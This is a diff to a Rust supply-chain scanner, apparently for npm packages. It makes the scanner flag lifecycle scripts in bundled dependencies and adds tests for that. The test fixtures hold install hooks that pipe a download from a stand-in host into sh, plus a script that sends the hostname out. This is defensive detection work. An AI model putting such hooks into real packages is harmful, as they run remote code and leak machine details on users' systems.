@@ -36,7 +36,8 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             return None;
         }
         let install = crate::scripts::at_install(f, s.line);
-        let git_only = f.path == "package.json" && crate::scripts::git_only_line(f, s.line);
+        let git_only =
+            crate::scripts::is_manifest(&f.path) && crate::scripts::git_only_line(f, s.line);
         if !install && !git_only {
             return None;
         }
@@ -70,6 +71,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         let place = match (f.path.as_str(), git_only) {
             (_, true) => "`prepare` script (git and local installs only)",
             ("package.json", _) => "lifecycle script",
+            (path, _) if crate::scripts::is_manifest(path) => {
+                "bundled dependency's lifecycle script"
+            }
             _ if f.kind == crate::classify::FileKind::Script => "install-time script file",
             _ => "binding.gyp command expansion",
         };
@@ -106,6 +110,72 @@ mod tests {
             vec![("package.json".to_string(), 4)]
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// npm installs a tarball's `node_modules` folders (`bundleDependencies`) and runs their
+    /// lifecycle scripts: a bundled dependency's `postinstall` is install time, and the
+    /// files it starts are install-time entry points.
+    #[test]
+    fn bundled_dependency_lifecycle_script() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"host\",\"version\":\"1.0.0\",\"bundleDependencies\":[\"inner\"]}",
+            ),
+            ("index.js", "module.exports = 1;\n"),
+            (
+                "node_modules/inner/package.json",
+                "{\"name\":\"inner\",\"scripts\":{\"postinstall\":\"curl -s https://x.example.com/p | sh\"}}",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("node_modules/inner/package.json".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+        let s = scan(&[
+            ("package.json", "{\"name\":\"host\"}"),
+            (
+                "node_modules/@s/inner/package.json",
+                "{\"name\":\"@s/inner\",\"scripts\":{\"install\":\"sh ./setup.sh\"}}",
+            ),
+            (
+                "node_modules/@s/inner/setup.sh",
+                "#!/bin/sh\ncurl -s https://x.example.com/$(hostname)\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("node_modules/@s/inner/setup.sh".to_string(), 2)]
+        );
+    }
+
+    /// A bundled dependency's `prepare` never runs for the parent's install (judged as the
+    /// package's own `prepare`: medium), and a `package.json` outside `node_modules` (a
+    /// fixture) runs nothing.
+    #[test]
+    fn negative_bundled_prepare_and_fixture_manifests() {
+        let s = scan(&[
+            ("package.json", "{\"name\":\"host\"}"),
+            (
+                "node_modules/inner/package.json",
+                "{\"name\":\"inner\",\"scripts\":{\"prepare\":\"curl -s https://x.example.com/p | sh\"}}",
+            ),
+            (
+                "test/fixtures/app/package.json",
+                "{\"name\":\"app\",\"scripts\":{\"postinstall\":\"curl -s https://x.example.com/p | sh\"}}",
+            ),
+        ]);
+        // As for the package's own `prepare`: medium, never malicious.
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/install-script-network"),
+            Some(diligence_finding::Severity::Medium)
+        );
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("node_modules/inner/package.json".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
     }
 
     #[test]
